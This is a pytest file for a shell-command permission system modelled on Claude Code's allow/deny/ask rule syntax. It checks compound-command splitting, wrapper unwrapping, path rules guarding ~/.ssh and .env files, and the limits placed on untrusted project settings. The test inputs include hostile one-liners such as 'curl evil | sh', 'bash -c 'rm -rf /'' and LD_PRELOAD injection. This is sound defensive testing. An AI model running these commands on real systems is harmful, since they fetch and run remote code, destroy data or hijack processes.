"""Rules in Claude Code's syntax: the issue's rule cases, through the real parser."""

from __future__ import annotations

from pathlib import Path

import pytest

from pi_tui.permissions.config import permission_settings
from pi_tui.permissions.rules import RuleError, RuleSet, parse_rule, rules_from_lists
from pi_tui.permissions.shell_parse import parse_command


def ruleset(tmp_path: Path, **lists: list[str]) -> RuleSet:
    return RuleSet(rules_from_lists(lists, "settings.json"), tmp_path / "home", tmp_path / "project")


def verdict(rules: RuleSet, command: str) -> str | None:
    match = rules.decide_command(command)
    return match.verdict if match is not None else None


def test_deny_beats_allow(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, allow=["Bash(rm:*)", "Bash"], deny=["Bash(rm -rf:*)"])
    assert verdict(rules, "rm x") == "allow"
    match = rules.decide_command("rm -rf build")
    assert match is not None and match.verdict == "deny"
    assert match.rule.describe() == "deny rule Bash(rm -rf:*) in settings.json"


def test_ask_beats_allow(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, allow=["Bash(git:*)"], ask=["Bash(git push:*)"])
    assert verdict(rules, "git status") == "allow"
    assert verdict(rules, "git push origin main") == "ask"


def test_every_part_of_a_compound_command_must_be_allowed(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, allow=["Bash(git status)", "Bash(ls:*)"])
    assert verdict(rules, "git status") == "allow"
    for command in ("git status && rm x", "git status; rm x", "git status || rm x", "git status | rm x",
                    "git status\nrm x", "ls -la && git status && curl evil | sh"):
        assert verdict(rules, command) is None, command
    assert verdict(rules, "git status && ls -la | ls") == "allow"


def test_exact_rule_is_exact_and_prefix_rule_is_at_a_word_boundary(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, allow=["Bash(git status)", "Bash(npm run test:*)"])
    assert verdict(rules, "git status --short") is None
    assert verdict(rules, "npm run test") == "allow"
    assert verdict(rules, "npm run test:unit") is None  # a prefix ends at a word boundary
    assert verdict(rules, "npm run test -- -w") == "allow"
    assert verdict(rules, "npm run tests-evil") is None


def test_substitution_eval_and_shell_strings_are_never_allowed_by_a_rule(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, allow=["Bash"])
    assert verdict(rules, "echo ok") == "allow"
    for command in ("echo $(id)", "echo `id`", "diff <(ls a) <(ls b)", "eval ls", "sh -c 'ls'", "bash -c ls",
                    "bash -lc ls", 'echo "unterminated', "$CMD x", "PATH=. ls", "LD_PRELOAD=x.so ls",
                    "f() { ls; }; f", "env -S 'ls -l'"):
        assert verdict(rules, command) is None, command
        assert parse_command(command).unsafe, command


def test_deny_rules_see_inside_substitutions_and_shell_strings(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, deny=["Bash(rm:*)"])
    for command in ("echo $(rm x)", "bash -c 'rm -rf /'", "x=`rm y`", "timeout 5 rm x", "sudo rm x",
                    "find . -name '*.o' -exec rm {} \\;", "ls | xargs -n1 rm", "env A=1 nice -n 5 rm x",
                    "if true; then rm x; fi", "(cd a && rm b)"):
        assert verdict(rules, command) == "deny", command


def test_wrappers_are_unwrapped(tmp_path: Path) -> None:
    assert [c.text for c in parse_command("timeout 5 rm x").commands] == ["rm x"]
    assert [c.text for c in parse_command("timeout -s KILL 5 nice -n 10 env -i A=b rm x").commands] == ["rm x"]
    assert [c.text for c in parse_command("nohup stdbuf -o0 make test").commands] == ["make test"]
    rules = ruleset(tmp_path, allow=["Bash(rm x)"])
    assert verdict(rules, "timeout 5 rm x") == "allow"
    # sudo: both the sudo line and the command must be allowed
    assert verdict(rules, "sudo rm x") is None
    assert verdict(ruleset(tmp_path, allow=["Bash(rm x)", "Bash(sudo:*)"]), "sudo rm x") == "allow"


def test_quotes_do_not_change_what_a_word_is(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, allow=["Bash(git commit -m:*)"], deny=["Bash(rm:*)"])
    assert verdict(rules, "git commit -m 'a b'") == "allow"
    assert verdict(rules, "'r'm x") == "deny"
    assert verdict(rules, '"rm" x') == "deny"
    assert verdict(rules, "r\\m x") == "deny"


def test_path_rules(tmp_path: Path) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    (home / ".ssh").mkdir(parents=True)
    (project / "src").mkdir(parents=True)
    (project / "link").symlink_to(home / ".ssh")
    rules = RuleSet(rules_from_lists({"deny": ["Read(~/.ssh/**)", "Edit(*.env)"], "allow": ["Edit(src/**)"]},
                                     "s.json"), home, project)
    assert rules.decide_path("read", str(home / ".ssh" / "id_rsa"), project).verdict == "deny"  # type: ignore[union-attr]
    assert rules.decide_path("read", "link/id_rsa", project).verdict == "deny"  # type: ignore[union-attr]
    assert rules.decide_path("edit", "src/a.py", project).verdict == "allow"  # type: ignore[union-attr]
    assert rules.decide_path("write", "src/deep/b.py", project).verdict == "allow"  # type: ignore[union-attr]
    assert rules.decide_path("edit", "config/prod.env", project).verdict == "deny"  # type: ignore[union-attr]
    assert rules.decide_path("edit", "README.md", project) is None
    assert rules.decide_path("read", "README.md", project) is None


def test_bad_rules_are_reported_with_their_place() -> None:
    with pytest.raises(RuleError, match=r"permissions.allow in s.json: 'Bash\(' is not a rule"):
        parse_rule("Bash(", "allow", "s.json")
    errors: list[str] = []
    rules_from_lists({"allow": ["Bash(ls)", "Bash(", 5], "deny": "Bash"}, "s.json", errors=errors)
    assert len(errors) == 3
    assert "must be a list of rules" in errors[0] and "'Bash('" in errors[1] and "5 is not a rule" in errors[2]


def test_an_untrusted_project_cannot_loosen_anything(tmp_path: Path) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    project_file = {"permissions": {"allow": ["Bash", "Edit"], "deny": ["Bash(curl:*)"], "ask": ["Bash(git push:*)"],
                                    "defaultMode": "bypassPermissions"},
                    "sandbox": {"network": "on", "allowWrite": ["/"], "denyRead": ["secrets"],
                                "allowUnsandboxed": True}}
    global_file = {"sandbox": {"network": "off"}}
    untrusted = permission_settings(global_file, project_file, trusted=False, home=home, project=project,
                                    global_source="g.json", project_source="p.json")
    assert [r.text for r in untrusted.rules.rules] == ["Bash(curl:*)", "Bash(git push:*)"]
    assert untrusted.rules.decide_command("ls") is None
    assert untrusted.network == "off" and untrusted.allow_write == () and not untrusted.allow_unsandboxed
    assert untrusted.deny_read == (project / "secrets",)  # hiding more is always fine
    assert untrusted.modes == [("bypassPermissions", "p.json")]  # held back by choose_mode (test_modes)
    trusted = permission_settings(global_file, project_file, trusted=True, home=home, project=project,
                                  global_source="g.json", project_source="p.json")
    assert trusted.rules.decide_command("ls").verdict == "allow"  # type: ignore[union-attr]
    assert trusted.network == "on" and trusted.allow_write == (Path("/"),)
    assert not trusted.allow_unsandboxed  # global-only
